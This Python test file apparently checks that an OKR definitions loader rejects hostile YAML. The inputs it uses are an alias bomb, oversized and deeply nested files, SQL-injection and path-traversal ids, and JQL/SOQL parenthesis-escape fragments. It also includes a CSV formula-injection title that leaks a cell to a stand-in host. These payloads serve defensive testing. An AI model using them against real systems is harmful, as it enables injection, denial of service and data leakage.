"""Hostile definitions files: each is refused with one `file:line: key: message` line, early.

A YAML bomb, a 50 MB file, nesting 100,000 levels deep, ids carrying SQL or a path,
and JQL or SOQL that tries to reach outside the parentheses the connectors put around
it. The loader turns each down before it costs more than the file size limit allows:
the memory of every load is measured, and `okr lint` over all of them runs in a
subprocess under a wall-clock guard.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import tracemalloc
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from okr_metrics.connectors.jira.client import search_jql
from okr_metrics.connectors.kit import Window
from okr_metrics.connectors.salesforce.client import build_soql
from okr_metrics.pipelines.cli.scorecard import render_scorecard
from okr_metrics.pipelines.definitions import load_definitions
from okr_metrics.pipelines.definitions.loader import (
    MAX_ALIAS_NODES,
    MAX_DEPTH,
    MAX_FILE_BYTES,
    MAX_KEY_RESULTS,
    MAX_NODES,
    MAX_PROBLEMS,
)
from okr_metrics.pipelines.scoring.rules import KeyResultInput, score_key_results
from okr_metrics.pipelines.vocabulary.quarters import Quarter
from okr_metrics.warehouse.store import Warehouse

HEADER = "quarter: 2026-Q4\nobjectives:\n  - id: o\n    title: O\n    key_results:\n"
KR = """\
      - id: {id}
        title: K
        type: increase
        start: 0
        target: 10
        metric: {metric}
"""
GITHUB = "{source: github, repo: acme/app, count: releases}"
MEMORY_BOUND = 50_000_000  # bytes; far above what refusing costs, far below a 50 MB read


def write(folder: Path, text: str | bytes, name: str = "2026-Q4.yaml") -> Path:
    path = folder / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def problems(path: Path) -> list[str]:
    """The problems of loading `path`, after checking the load stayed in bounded memory."""
    tracemalloc.start()
    try:
        found = load_definitions(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < MEMORY_BOUND, f"loading {path.name} took {peak / 1e6:.0f} MB"
    lines = [str(problem) for problem in found.errors]
    assert all("\n" not in line for line in lines)
    return lines


def billion_laughs() -> str:
    """Nine levels of nine aliases: 9**9 strings once expanded, in 600 bytes."""
    lines = ['laughs: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 9):
        lines.append(f"more{level}: &l{level} [" + ", ".join([f"*l{level - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


# --- size, encoding, shape ---------------------------------------------------------------------


def test_a_50_mb_file_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "2026-Q4.yaml"
    with path.open("wb") as stream:
        stream.write(HEADER.encode())
        stream.seek(50_000_000 - 1)
        stream.write(b"\n")
    assert problems(path) == [
        f"{path}:1: the file is 50.0 MB; a definitions file is limited to 1.0 MB"
    ]


MEASURE_LOAD = """
import resource, sys
from okr_metrics.pipelines.definitions import load_definitions
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
found = load_definitions(sys.argv[1])
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(len(found.errors), (after - before) * 1024)
"""


def test_a_file_just_under_the_limit_loads_in_bounded_memory(tmp_path):
    count = 4_500  # 20 values and keys each: just under MAX_NODES
    body = "".join(KR.format(id=f"k{index}", metric=GITHUB) for index in range(count))
    path = write(tmp_path, HEADER + body)
    assert path.stat().st_size <= MAX_FILE_BYTES
    done = subprocess.run(
        [sys.executable, "-c", MEASURE_LOAD, str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    errors, grown = map(int, done.stdout.split())
    assert errors == 0
    assert grown < 200_000_000, f"loading {count} KRs grew the process by {grown / 1e6:.0f} MB"


@pytest.mark.parametrize(
    ("content", "line", "message"),
    [
        (HEADER.encode() + b"      - id: caf\xe9\n", 6, "not UTF-8 text (byte 0xe9)"),
        (HEADER + "      - id: a\x00b\n", 6, "control character U+0000 is not allowed in YAML"),
        (HEADER + "      - id: a\x1b[31m\n", 6, "control character U+001B is not allowed in YAML"),
    ],
)
def test_bytes_that_are_not_yaml_text_are_named_by_line(tmp_path, content, line, message):
    path = write(tmp_path, content)
    assert problems(path) == [f"{path}:{line}: {message}"]


def test_a_billion_laughs_is_refused_at_the_alias_that_breaks_the_budget(tmp_path):
    bomb = billion_laughs()
    # Where the bomb would be walked (and serialised into a series key) after loading.
    path = write(
        tmp_path,
        bomb
        + HEADER
        + KR.format(
            id="k",
            metric="{source: github, repo: acme/app, count: releases, expect: "
            "{gx: [{expect_column_values_to_be_in_set: {value_set: *l8}}]}}",
        ),
    )
    # Levels 1 to 3 expand to 8,289 nodes; the first alias of level 4 (7,381 more) is too many.
    assert problems(path) == [
        f"{path}:5: invalid YAML: aliases expand to more than {MAX_ALIAS_NODES:,} nodes"
    ]


def test_many_aliases_of_one_mid_sized_node_are_refused_too(tmp_path):
    block = "[" + ", ".join(["x"] * 99) + "]"  # 100 nodes
    aliases = "\n".join(f"  - *block  # {index}" for index in range(101))
    path = write(tmp_path, f"shared: &block {block}\ncopies:\n{aliases}\n")
    (problem,) = problems(path)
    assert problem == (
        f"{path}:103: invalid YAML: aliases expand to more than {MAX_ALIAS_NODES:,} nodes"
    )


def test_too_many_values_are_refused_before_they_are_built(tmp_path):
    path = write(tmp_path, "quarter: 2026-Q4\nobjectives: [" + ",".join(["{}"] * 200_000) + "]\n")
    assert problems(path) == [f"{path}:2: invalid YAML: more than {MAX_NODES:,} values and keys"]


def test_too_many_key_results_are_refused_before_each_is_checked(tmp_path):
    objectives = "".join(
        f"  - {{id: o{index}, title: O, key_results: [{','.join(['{}'] * 100)}]}}\n"
        for index in range(51)
    )
    path = write(tmp_path, "quarter: 2026-Q4\nobjectives:\n" + objectives)
    assert problems(path) == [
        f"{path}:2: objectives: 5,100 key results; a file holds at most {MAX_KEY_RESULTS:,}"
    ]


def test_past_100_errors_the_rest_are_counted(tmp_path):
    objectives = "".join(
        f"  - {{id: o{index}, title: O, key_results: [{{}}]}}\n" for index in range(60)
    )
    path = write(tmp_path, "quarter: 2026-Q4\nobjectives:\n" + objectives)
    found = problems(path)
    assert found[0] == f"{path}:1: 240 problems; the first {MAX_PROBLEMS} are listed"
    assert len(found) == 1 + MAX_PROBLEMS
    assert found[1] == f"{path}:3: objectives[o0].key_results[0].id: missing required key"


def test_an_alias_inside_its_own_anchor_is_refused(tmp_path):
    path = write(tmp_path, "quarter: 2026-Q4\nobjectives: &loop\n  - *loop\n")
    assert problems(path) == [
        f"{path}:3: invalid YAML: alias *loop refers to a node that contains it"
    ]


def test_ordinary_aliases_still_load(tmp_path):
    shared = "{source: github, repo: acme/app, count: releases}"
    path = write(
        tmp_path,
        HEADER
        + KR.format(id="a", metric=f"&releases {shared}")
        + KR.format(id="b", metric="*releases"),
    )
    assert problems(path) == []
    okr_file = load_definitions(path).for_quarter(Quarter(2026, 4))
    metrics = [key_result.metric for _, key_result in okr_file.key_results]
    assert metrics[0] == metrics[1] and metrics[0].repo == "acme/app"


@pytest.mark.parametrize("levels", [MAX_DEPTH + 1, 100_000])
def test_deep_nesting_is_refused_without_a_recursion_error(tmp_path, levels):
    nested = "[" * levels + "]" * levels
    path = write(tmp_path, f"quarter: 2026-Q4\nobjectives: {nested}\n")
    (problem,) = problems(path)
    assert problem.startswith(f"{path}:2: invalid YAML: ")
    assert "nest" in problem  # "nested more than 32 levels deep" (ours) or libyaml's own limit


def test_deep_block_mappings_name_the_line_past_the_limit(tmp_path):
    lines = [f"{'  ' * level}k{level}:" for level in range(MAX_DEPTH + 5)]
    path = write(tmp_path, "\n".join(lines) + " 1\n")
    assert problems(path) == [
        f"{path}:{MAX_DEPTH + 1}: invalid YAML: nested more than {MAX_DEPTH} levels deep"
    ]


def test_a_list_as_a_key_is_a_problem_not_a_crash(tmp_path):
    path = write(tmp_path, "quarter: 2026-Q4\n? [a, b]\n: 1\n")
    assert problems(path) == [
        f"{path}:2: invalid YAML: a key must be a plain value, not a list or mapping"
    ]


def test_a_key_with_a_line_break_stays_on_one_line(tmp_path):
    path = write(tmp_path, HEADER + KR.format(id="k", metric=GITHUB) + '        "x\\ny": 1\n')
    assert problems(path) == [f"{path}:12: objectives[o].key_results[k].'x\\ny': unknown key"]


# --- ids --------------------------------------------------------------------------------------

HOSTILE_IDS = [
    "'; DROP TABLE kr_scores; --",
    "../../etc/passwd",
    "a/b",
    "a\\\\b",  # a backslash, written as YAML's escape
    "a\\0b",  # NUL, written as YAML's escape
    "Robert'); --",
    "UPPER",
    "x" * 101,
]


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
@pytest.mark.parametrize("where", ["objective", "key_result", "aligns_to"])
def test_ids_are_slugs(tmp_path, hostile, where):
    quoted = f'"{hostile}"'
    objective_id = quoted if where == "objective" else "o"
    kr_id = quoted if where == "key_result" else "k"
    aligns = f"    aligns_to: {quoted}\n" if where == "aligns_to" else ""
    path = write(
        tmp_path,
        f"quarter: 2026-Q4\nobjectives:\n  - id: {objective_id}\n    title: O\n{aligns}"
        "    key_results:\n" + KR.format(id=kr_id, metric=GITHUB),
    )
    value = load_yaml_string(quoted)
    shown = repr(value[:100])
    key = {
        "objective": (3, f"objectives[{shown}].id"),
        "key_result": (6, f"objectives[o].key_results[{shown}].id"),
        "aligns_to": (5, "objectives[o].aligns_to"),
    }[where]
    (problem,) = problems(path)
    if len(value) > 100 and value.islower():
        message = "String should have at most 100 characters"
    else:
        message = (
            f"{shown} is not an id: use lower-case letters and digits, words joined by - or _ "
            "(at most 100 characters)"
        )
    assert problem == f"{path}:{key[0]}: {key[1]}: {message}".replace("\x00", "\\x00")


def load_yaml_string(quoted: str) -> str:
    import yaml

    return yaml.safe_load(quoted)


@pytest.mark.parametrize("quarter", ["../../etc", "2026-Q4'; DROP TABLE x; --", "2026-Q4/.."])
def test_a_quarter_is_a_quarter(tmp_path, quarter):
    path = write(
        tmp_path, HEADER.replace("2026-Q4", f'"{quarter}"') + KR.format(id="k", metric=GITHUB)
    )
    assert problems(path) == [
        f"{path}:1: quarter: bad quarter {quarter!r}: expected YYYY-Qn, e.g. 2026-Q4"
    ]


@pytest.mark.parametrize("number", [".inf", "-.inf", ".nan"])
def test_targets_are_finite(tmp_path, number):
    path = write(tmp_path, HEADER + KR.format(id="k", metric=GITHUB).replace("10", number))
    (problem,) = problems(path)
    assert (
        problem
        == f"{path}:10: objectives[o].key_results[k].target: Input should be a finite number"
    )


# --- JQL and SOQL fragments ------------------------------------------------------------------


def jira(jql: str) -> str:
    return f"{{source: jira, count: created, jql: {json.dumps(jql)}}}"


def salesforce(where: str) -> str:
    return f"{{source: salesforce, where: {json.dumps(where)}}}"


@pytest.mark.parametrize(
    ("metric", "message"),
    [
        (
            jira("project = SUP) OR (1=1"),
            "jql: ')' at character 14 closes a parenthesis it did not open: "
            "the JQL condition is kept whole in parentheses",
        ),
        (jira("project = 'SUP"), "jql: the quote ' at character 11 is never closed"),
        (jira("(project = SUP"), "jql: the '(' at character 1 is never closed"),
        (jira("project = SUP -- AND x"), "jql: '--' at character 15: JQL has no comments"),
        (
            jira("project = SUP; project = OPS"),
            "jql: ';' at character 14: the JQL condition must be one statement",
        ),
        (jira("project = SUP\x00"), "jql: control character U+0000 at character 14"),
        # A trailing backslash would escape the client's closing parenthesis.
        (jira("project = SUP \\"), "jql: '\\' at character 15 is outside a quoted string"),
        (
            jira("(project = SUP ORDER BY created)"),
            "jql: 'ORDER BY' at character 16 is inside parentheses; put it at the end",
        ),
        (
            salesforce("StageName = 'Closed Won') OR (Id != null"),
            "where: ')' at character 25 closes a parenthesis it did not open: "
            "the SOQL condition is kept whole in parentheses",
        ),
        (
            salesforce("StageName = 'Closed Won"),
            "where: the quote ' at character 13 is never closed",
        ),
        (salesforce("Amount > 0 /* x */"), "where: '/*' at character 12: SOQL has no comments"),
        (
            salesforce("Amount > 0 LIMIT 1"),
            "where: 'LIMIT' at character 12 starts a clause of its own; give only the condition",
        ),
        (
            salesforce("Amount > 0 ORDER BY Amount"),
            "where: 'ORDER BY' at character 12 starts a clause of its own; give only the condition",
        ),
    ],
)
def test_query_fragments_cannot_escape_their_parentheses(tmp_path, metric, message):
    path = write(tmp_path, HEADER + KR.format(id="k", metric=metric))
    assert problems(path) == [f"{path}:11: objectives[o].key_results[k].metric.{message}"]


def test_brackets_and_quotes_inside_strings_are_fine_and_stay_inside_the_parentheses(tmp_path):
    jql = 'project = SUP AND summary ~ "a) OR (b" ORDER BY created'
    where = "Name = 'O\\'Brien (EMEA)' AND Id IN (SELECT OpportunityId FROM OpportunityLineItem)"
    path = write(
        tmp_path,
        HEADER + KR.format(id="j", metric=jira(jql)) + KR.format(id="s", metric=salesforce(where)),
    )
    assert problems(path) == []
    # What the clients send: the whole fragment inside the parentheses, the window after.
    sent = search_jql(jql, "created", date(2026, 10, 1), date(2026, 10, 2))
    assert sent.startswith('(project = SUP AND summary ~ "a) OR (b") AND created >= ')
    window = Window(date(2026, 10, 1), date(2026, 10, 2))
    soql = build_soql("Opportunity", where, "CloseDate", "date", window)
    assert soql.endswith(f"WHERE ({where}) AND CloseDate >= 2026-10-01 AND CloseDate <= 2026-10-02")


def test_a_query_too_long_for_the_warehouse_key_is_refused(tmp_path):
    jql = "project = SUP AND " + " OR ".join(f"labels = l{index}" for index in range(120))
    path = write(tmp_path, HEADER + KR.format(id="k", metric=jira(jql)))
    (problem,) = problems(path)
    assert problem.startswith(f"{path}:11: objectives[o].key_results[k].metric: the query is ")
    assert problem.endswith("characters as a series key; the warehouse keeps 1,000")


# --- all of them at once, through `okr lint`, under a wall-clock guard --------------------------


def test_okr_lint_refuses_every_hostile_file_with_one_line_each(tmp_path):
    folder = tmp_path / "okr_defs"
    folder.mkdir()
    big = folder / "big.yaml"
    with big.open("wb") as stream:
        stream.seek(50_000_000 - 1)
        stream.write(b"\n")
    write(folder, billion_laughs() + "quarter: 2026-Q1\nobjectives: *l8\n", "bomb.yaml")
    write(folder, "quarter: 2026-Q2\nobjectives: " + "[" * 100_000 + "\n", "deep.yaml")
    write(
        folder,
        HEADER.replace("2026-Q4", "2026-Q3").replace("id: o", 'id: "\'; DROP TABLE x; --"')
        + KR.format(id="k", metric=GITHUB),
        "ids.yaml",
    )
    write(
        folder,
        HEADER + KR.format(id="k", metric=jira("x) OR (1=1")),
        "jql.yaml",
    )
    done = subprocess.run(
        [str(Path(sys.executable).with_name("okr")), "lint", "--defs", str(folder)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1, done.stderr
    lines = done.stdout.splitlines()
    assert [line.split(":")[0] for line in lines] == [
        str(folder / name)
        for name in ("big.yaml", "bomb.yaml", "deep.yaml", "ids.yaml", "jql.yaml")
    ], done.stdout
    assert "Traceback" not in done.stderr


# --- a title written as a formula stays text in the CSV scorecard ------------------------------


def test_a_formula_title_is_text_in_the_csv_scorecard(tmp_path):
    quarter = Quarter(2026, 4)
    title = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    key_result = KeyResultInput(
        kr_id="k", objective_id="o", title=title, owner="-ops", kr_type="increase",
        start=0.0, target=10.0, weight=1.0, aggregate="sum", metric_key="m",
    )  # fmt: skip
    observations = pd.DataFrame({"metric_key": ["m"], "date": [quarter.start], "value": [3.0]})
    scores = score_key_results([key_result], quarter, observations, [quarter.start])
    warehouse = Warehouse(f"sqlite:///{tmp_path / 'warehouse.db'}")
    warehouse.replace_kr_scores(scores, quarter.start, quarter.start, "run-1")
    # The warehouse keeps the title as written; only the CSV copy is defused.
    assert warehouse.read_kr_scores(quarter.start, quarter.start)["kr_title"].tolist() == [title]
    text = render_scorecard(warehouse, "2026-Q4", quarter.start, "csv")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["kr_title"] == "'" + title
    assert row["owner"] == "'-ops"
    assert row["kr_id"] == "k" and float(row["value"]) == 3.0
